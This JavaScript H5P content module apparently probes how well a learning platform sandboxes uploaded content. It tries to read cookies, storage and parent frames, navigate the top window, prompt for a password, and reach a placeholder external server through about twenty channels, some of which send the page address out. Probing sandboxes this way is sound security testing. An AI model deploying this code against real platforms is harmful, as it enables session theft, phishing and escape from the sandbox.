var H5P = H5P || {};

/*
 * A hostile content. Each reach resolves with what it got, or rejects: then it got nothing. What it got stands in the
 * list it draws and in window.reached, by the name of the reach; "-" for nothing.
 *
 * parameters: abroad (origin of a server that writes down who asks), site (origin of the platform), paths (of the
 * platform: pages, forms), others (addresses of other packages' files), leave (one of LEAVING: does only this).
 */
H5P.ImeceReach = (function ($, EventDispatcher) {
  var PATIENCE = 1500;

  function Reach(parameters, contentId) {
    EventDispatcher.call(this);
    this.parameters = $.extend({ abroad: '{{ABROAD}}', site: new URL(location.href).origin, paths: [], others: [], leave: '' }, parameters);
    this.contentId = contentId;
  }

  Reach.prototype = Object.create(EventDispatcher.prototype);
  Reach.prototype.constructor = Reach;

  Reach.prototype.attach = function ($container) {
    var self = this;
    var $list = $('<ul class="reach-list"></ul>');
    $container.addClass('h5p-imece-reach').append($list);
    window.reached = {};
    if (LEAVING[this.parameters.leave]) {
      LEAVING[this.parameters.leave](this.parameters.abroad);
      return;
    }
    var reaches = this.reaches();
    Promise.all(
      Object.keys(reaches).map(function (name) {
        return within(reaches[name]).then(function (got) {
          window.reached[name] = got;
          $('<li></li>').attr('data-reach', name).text(name + ': ' + got).appendTo($list);
        });
      })
    ).then(function () {
      $('<p class="reach-over"></p>').text('Bitti').appendTo($container);
      self.trigger('resize');
    });
    this.setActivityStarted();
  };

  function within(reach) {
    return new Promise(function (resolve) {
      setTimeout(function () {
        resolve('-');
      }, PATIENCE);
      Promise.resolve()
        .then(reach)
        .then(
          function (got) {
            resolve(got === undefined || got === null || got === '' ? '-' : String(got).slice(0, 200));
          },
          function () {
            resolve('-');
          }
        );
    });
  }

  // Ways to take its own frame elsewhere, with what it knows; then nobody is left to tell.
  var LEAVING = {
    address: function (abroad) {
      location.href = abroad + '/from-address?' + encodeURIComponent(location.href);
    },
    form: function (abroad) {
      post(abroad + '/from-own-form', '_self');
    },
    refresh: function (abroad) {
      var meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = '0; url=' + abroad + '/from-refresh';
      document.head.appendChild(meta);
    },
    site: function () {
      location.href = '/';
    }
  };

  // The browser's own, not what a player may have put in its place: a window that no player has touched.
  function untouched() {
    return document.body.appendChild(document.createElement('iframe')).contentWindow;
  }

  function own(name) {
    var getter = Object.getOwnPropertyDescriptor(window, name).get;
    return getter ? getter.call(window) : undefined;
  }

  function items(storage) {
    return storage && storage.length ? JSON.stringify(Object.assign({}, storage)) : '';
  }

  function element(name, attributes, place) {
    return new Promise(function (resolve, reject) {
      var made = document.createElement(name);
      made.onload = function () {
        resolve(name + ' loaded');
      };
      made.onerror = reject;
      Object.assign(made, attributes);
      (place || document.body).appendChild(made);
    });
  }

  function request(address, options) {
    return fetch(address, Object.assign({ credentials: 'include' }, options)).then(function (answer) {
      return answer.text().then(function (text) {
        return answer.status + ' ' + text.length;
      });
    });
  }

  function xhr(address) {
    return new Promise(function (resolve, reject) {
      var asked = new XMLHttpRequest();
      asked.open('GET', address);
      asked.withCredentials = true;
      asked.onload = function () {
        resolve(asked.status);
      };
      asked.onerror = reject;
      asked.send();
    });
  }

  function post(address, target) {
    var form = document.createElement('form');
    form.method = 'post';
    form.action = address;
    form.target = target;
    form.innerHTML = '<input name="secret" value="1">';
    document.body.appendChild(form);
    form.submit();
  }

  function frame(address) {
    return element('iframe', { src: address, name: 'reach-' + H5P.createUUID() }).then(function () {
      var documents = Array.from(document.querySelectorAll('iframe')).map(function (one) {
        return one.contentDocument && one.contentDocument.body && one.contentDocument.body.textContent;
      });
      return documents.filter(Boolean).join('');
    });
  }

  function socket(address) {
    return new Promise(function (resolve, reject) {
      var opened = new WebSocket(address.replace(/^http/, 'ws') + '/from-socket');
      opened.onopen = function () {
        resolve('open');
      };
      opened.onerror = reject;
    });
  }

  function worker(code) {
    return new Promise(function (resolve, reject) {
      var made = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      made.onmessage = function (event) {
        resolve(event.data);
      };
      made.onerror = reject;
    });
  }

  Reach.prototype.reaches = function () {
    var abroad = this.parameters.abroad;
    var site = this.parameters.site;
    var reaches = {
      cookie: function () {
        return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);
      },
      'cookie written': function () {
        var cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
        cookie.set.call(document, 'reach=1; path=/');
        return cookie.get.call(document);
      },
      localStorage: function () {
        return items(untouched().localStorage);
      },
      sessionStorage: function () {
        return items(untouched().sessionStorage);
      },
      'storage of the player': function () {
        return items(window.localStorage) + items(window.sessionStorage);
      },
      'cookie of an empty frame': function () {
        return untouched().document.cookie;
      },
      indexedDB: function () {
        return own('indexedDB').databases().then(function (names) {
          return JSON.stringify(names);
        });
      },
      caches: function () {
        return own('caches').keys().then(JSON.stringify);
      },
      'service worker': function () {
        return navigator.serviceWorker.register('/sw.js').then(function () {
          return 'registered';
        });
      },
      origin: function () {
        return self.origin === 'null' ? '' : self.origin;
      },
      'parent document': function () {
        return parent.document.title;
      },
      'top document': function () {
        return top.document.body.innerHTML.length;
      },
      'top address': function () {
        return top.location.href;
      },
      'parent storage': function () {
        return parent.localStorage.length;
      },
      'frame element': function () {
        return window.frameElement && window.frameElement.outerHTML;
      },
      opener: function () {
        return window.opener && window.opener.document.title;
      },
      'sibling frames': function () {
        for (var index = 0; index < parent.frames.length; index += 1) {
          if (parent.frames[index] !== window) {
            return parent.frames[index].document.title;
          }
        }
      },
      referrer: function () {
        return document.referrer.replace(/^https?:\/\/[^/]*\/?$/, '');
      },
      'fetch abroad': function () {
        return request(abroad + '/from-fetch');
      },
      'fetch abroad without asking': function () {
        return fetch(abroad + '/from-fetch-no-cors', { mode: 'no-cors', method: 'POST', body: location.href }).then(function () {
          return 'sent';
        });
      },
      'xhr abroad': function () {
        return xhr(abroad + '/from-xhr');
      },
      'socket abroad': function () {
        return socket(abroad);
      },
      'events abroad': function () {
        return new Promise(function (resolve, reject) {
          var source = new EventSource(abroad + '/from-events');
          source.onopen = resolve.bind(null, 'open');
          source.onerror = reject;
        });
      },
      'beacon abroad': function () {
        navigator.sendBeacon(abroad + '/from-beacon', location.href);
      },
      'picture abroad': function () {
        return element('img', { src: abroad + '/from-picture?' + encodeURIComponent(location.href) });
      },
      'script abroad': function () {
        return element('script', { src: abroad + '/from-script.js' });
      },
      'module abroad': function () {
        return import(abroad + '/from-module.js').then(function () {
          return 'loaded';
        });
      },
      'style abroad': function () {
        return element('link', { rel: 'stylesheet', href: abroad + '/from-style.css' }, document.head);
      },
      'prefetch abroad': function () {
        return element('link', { rel: 'prefetch', href: abroad + '/from-prefetch' }, document.head);
      },
      'preload abroad': function () {
        return element('link', { rel: 'preload', as: 'image', href: abroad + '/from-preload' }, document.head);
      },
      'film abroad': function () {
        return element('video', { src: abroad + '/from-film', autoplay: true, muted: true });
      },
      'object abroad': function () {
        return element('object', { data: abroad + '/from-object' });
      },
      'frame abroad': function () {
        return element('iframe', { src: abroad + '/from-frame' }).then(function () {});
      },
      'form abroad': function () {
        post(abroad + '/from-form', 'reach-form-' + H5P.createUUID());
      },
      'ping abroad': function () {
        var link = document.createElement('a');
        link.href = '#';
        link.ping = abroad + '/from-ping';
        document.body.appendChild(link);
        link.click();
      },
      'window abroad': function () {
        return window.open(abroad + '/from-window?' + encodeURIComponent(location.href)) ? 'opened' : '';
      },
      'top led abroad': function () {
        top.location = abroad + '/from-top';
      },
      'parent led abroad': function () {
        window.open(abroad + '/from-parent', '_parent');
      },
      'worker abroad': function () {
        return worker('fetch("' + abroad + '/from-worker").then(() => postMessage("got"), () => postMessage(""))');
      },
      'policy lifted in a frame': function () {
        return element('iframe', {
          srcdoc: '<script>fetch("' + abroad + '/from-srcdoc"); new Image().src = "' + abroad + '/from-srcdoc-picture"<' + '/script>'
        }).then(function () {});
      },
      'policy lifted in a document': function () {
        var address = 'data:text/html,<script>fetch("' + abroad + '/from-data")<' + '/script>';
        return element('iframe', { src: address }).then(function () {});
      },
      'page by form': function () {
        post(site + '/', 'reach-form-' + H5P.createUUID());
      },
      'alert box': function () {
        return window.prompt('Parola?');
      }
    };
    this.parameters.paths.forEach(function (path) {
      reaches['fetch ' + path] = function () {
        return request(site + path);
      };
      reaches['post ' + path] = function () {
        return request(site + path, { method: 'POST', body: new URLSearchParams({ a: 'b' }) });
      };
      reaches['xhr ' + path] = function () {
        return xhr(site + path);
      };
      reaches['frame ' + path] = function () {
        return frame(site + path);
      };
      reaches['script ' + path] = function () {
        return element('script', { src: site + path });
      };
      reaches['picture ' + path] = function () {
        return element('img', { src: site + path });
      };
    });
    this.parameters.others.forEach(function (address) {
      reaches['other ' + address] = function () {
        return request(address, { credentials: 'omit' });
      };
    });
    return reaches;
  };

  return Reach;
})(H5P.jQuery, H5P.EventDispatcher);
